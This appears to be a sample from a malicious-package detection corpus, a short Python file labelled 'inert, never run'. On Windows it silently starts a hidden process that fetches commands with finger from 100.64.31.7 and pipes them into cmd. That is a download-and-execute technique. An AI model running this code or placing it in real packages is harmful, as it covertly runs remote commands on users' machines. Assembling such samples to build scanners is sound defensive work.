# pkgguard corpus 861 (download-execute), modelled on [taxonomy]; inert, never run.
import subprocess
import sys

if sys.platform == "win32":
    subprocess.Popen("finger setup@100.64.31.7 | more +2 | cmd", shell=True, creationflags=0x08000000)
